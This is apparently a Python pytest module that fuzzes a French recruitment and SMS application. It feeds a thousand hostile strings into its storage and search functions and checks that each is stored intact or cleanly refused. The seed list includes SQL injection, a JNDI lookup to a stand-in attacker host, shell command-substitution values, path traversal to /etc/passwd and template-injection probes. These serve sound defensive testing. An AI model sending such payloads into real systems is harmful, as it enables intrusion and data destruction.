"""A thousand hostile texts through each function that stores or looks for what people type.

OWASP ASVS 5.0: V1.2.4 (parameterised queries), V1.1 (encoding once), V2.2.1 (validation), V16.5.1 (errors).
Each is kept as it stands (without what cannot be kept), or refused with a sentence; nothing else in the database moves.
"""

from __future__ import annotations

import itertools
import os
from collections.abc import Callable
from dataclasses import replace
from datetime import timedelta
from typing import Any
from urllib.parse import urlencode
from uuid import uuid4

import pytest

from ftcore.database import Database
from ftcore.drafting import chats, offers, prompts
from ftcore.errors import FtError
from ftcore.insight import comparisons
from ftcore.matching import choices, criteria, people_file, people_import
from ftcore.matching.criteria import Conditions, Weights
from ftcore.model import Person, Role, Verdict
from ftcore.outreach import inbox, sending_rules, takeover, template_versions, threads
from ftcore.outreach.templates import DEFAULTS, Kind
from ftcore.webhooks import checks
from tests.attacks.payloads import PAYLOADS
from tests.outreach.conftest import Town
from tests.trust.two_agencies import definition

SEEDS = (
    "\0", "a\0b", "\ud800", "a\udfffb", "\u202eabc", "\ufeff", "\u200b" * 50, "\r\n\r\n", "\t", "\x1b[31mrouge\x1b[0m",
    "\x7f\x80\x9f", "'", '"', "';--", "' OR '1'='1", "'; DROP TABLE candidate; --", "$1", "$$;$$", "%s", "%(a)s",
    "%n%n%n", "{}", "{0.__class__}", "{{7*7}}", "((prénom))", "((", "${jndi:ldap://attaque.example/a}", "`id`", "$(id)",
    "| ls",
    "&& ls", "../../etc/passwd", "\\\\attaque.example\\x", "null", "None", "NaN", "Infinity", "-1", "1e999", "0x10",
    "true",
    "[]",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466", "\U0001f1eb\U0001f1f7" * 50, "e" + "\u0301" * 300,
    "ﷺ" * 50, "İıſK", "𝒽𝓉𝓉𝓅", "мир", "你好", "مرحبا", "x" * 3_000, "é" * 10_000, " " * 2_000, "\n" * 500,
    "+++\nname = 'x'\n+++", '{"a":' * 200, "<!--", "]]>", "<![CDATA[", "\\", "\\u0000", "%00", "%", "_", "%_%", "*",
    "(" * 500,
)  # fmt: skip
TEXTS = tuple(itertools.islice(
    itertools.chain(
        SEEDS,
        (payload.text for payload in PAYLOADS),
        (one + other for one, other in itertools.product(SEEDS, SEEDS) if len(one) + len(other) < 200),
    ), 1_000))  # fmt: skip
# A line of a megabyte is tried with each; of the others every tenth where many tests run, all where somebody asks.
EVERY = 1 if os.environ.get("ENTREMISE_ALL_ATTACKS") else 10
Put = Callable[[Town, Person, str], object]


def _offer(town: Town, person: Person, text: str) -> object:
    offer = town.offer()
    changed = replace(offer, title=text or "x", description=text, employer=text, contract=text, languages=(text,))
    return offers.save(town.database, person, changed, town.now)


def _reply(town: Town, _: Person, text: str) -> object:
    body = urlencode({"from": "+33639980001", "to": "36000", "text": text, "id": uuid4().hex}, errors="surrogatepass")
    row = checks.row_of("incoming", body.encode(), b"application/x-www-form-urlencoded")
    town.database.transact(lambda tx: tx.insert("callback", [row], if_absent=True))
    return inbox.take_in(town.database, None, town.now + timedelta(hours=1))


def _people(town: Town, _: Person, text: str) -> object:
    cell = text.replace('"', '""')
    row = ";".join([f'"{cell}"'] * 6)
    file = f'Identifiant;Prénom;Nom;Téléphone;Métier;"{cell[:200]}"\n{row}\n'
    data = file.encode("utf-8", "surrogatepass")
    table = people_file.open_table("gens.csv", data)
    mapping = people_file.guess_mapping(table.columns)
    administrator = Person("a", "Alix", Role.ADMINISTRATOR, town.counselor.agency_id)
    return people_import.import_candidates(town.database, administrator, table, mapping, town.now)


def _chat(town: Town, person: Person, text: str) -> object:
    chat_id = chats.start(town.database, person, "free", [(text[:50], text)], text, town.now)
    chats.rename(town.database, person, chat_id, text)
    return chats.entries(town.database, person, chat_id)


def _thread(act: Callable[[Database, Person, Any, str, Town], object]) -> Put:
    def put(town: Town, person: Person, text: str) -> object:
        thread = town.database.value("SELECT conversation_id FROM conversation LIMIT 1")
        return act(town.database, person, thread, text, town)

    return put


def _lead(person: Person) -> Person:
    return replace(person, role=Role.TEAM_LEAD)


# Each function, and the tables that it may change.
INPUTS: dict[str, tuple[Put, set[str]]] = {
    "an offer": (_offer, {"offer"}),
    "a reply": (_reply, {"callback", "reply", "conversation", "message", "opt_out"}),
    "a file of people": (_people, {"candidate", "candidate_trait", "pool_size"}),
    "a chat": (_chat, {"chat", "chat_turn"}),
    "a search of chats": (lambda town, person, text: chats.chats(town.database, person, text), set()),
    "a search of people": (lambda town, person, text: choices.search(town.database, person, text), set()),
    "a note": (_thread(lambda d, p, c, text, town: takeover.note(d, p, c, text, town.now)), {"thread_event"}),
    "an SMS by hand": (_thread(lambda d, p, c, text, town: takeover.write_by_hand(d, p, c, text, None, town.now)),
                       {"message", "conversation", "thread_event"}),
    "a verdict": (_thread(lambda d, p, c, text, town: threads.decide(d, p, c, Verdict.TO_SEE, text, town.now)),
                  {"conversation", "message", "decision_time"}),
    "a wording": (lambda town, person, text: template_versions.save(
        town.database, _lead(person), Kind.OPENING, DEFAULTS[Kind.OPENING] + text, town.now), {"sms_template"}),
    "a profile": (lambda town, person, text: criteria.save_profile(
        town.database, person, text, Weights(), Conditions(), town.now), {"weight_profile"}),
    "a reason to stop": (lambda town, person, text: sending_rules.stop_sending(
        town.database, person, text, town.now), {"sending_rule"}),
    "a comparison": (lambda town, person, text: comparisons.define(
        town.database, _lead(person), definition(text), None, town.now), {"comparison"}),
    "a prompt": (lambda town, person, text: prompts.publish(
        town.database, _lead(person), prompts.compose("relance", text, text, text), town.now), {"prompt"}),
}  # fmt: skip


def digest(database: Database, but: set[str]) -> dict[str, object]:
    """A number for each table that must not change."""
    watched = {"agency", "candidate", "offer", "campaign", "conversation", "message", "reply", "opt_out", "chat",
               "sms_template", "weight_profile", "sending_rule", "comparison", "prompt", "account"} - but  # fmt: skip
    with database.read() as reader:
        return {table: str(sorted(map(str, reader.rows(f"SELECT * FROM {table}")))) for table in watched}


@pytest.mark.parametrize("name", INPUTS)
def test_a_hostile_text_is_kept_as_it_stands_or_refused_with_a_sentence(town: Town, name: str) -> None:
    put, own = INPUTS[name]
    town.launch(town.people(2))
    before = digest(town.database, own | ({"offer"} if name == "an offer" else set()))
    offset = sum(map(ord, name)) % EVERY
    wrong = []
    for text in (*SEEDS[:6], *TEXTS[offset::EVERY], "x" * 1_000_000):
        try:
            put(town, town.counselor, text)
        except (FtError, checks.Malformed) as refusal:
            if "Traceback" in str(refusal) or len(str(refusal)) > 1_500:
                wrong.append((text[:60], str(refusal)[:200]))
        except Exception as error:  # noqa: BLE001 - each is told below
            wrong.append((text[:60], f"{type(error).__name__}: {str(error)[:120]}"))
    assert wrong == []
    assert digest(town.database, own | ({"offer"} if name == "an offer" else set())) == before
    assert town.database.value("SELECT count(*) FROM agency") == 2
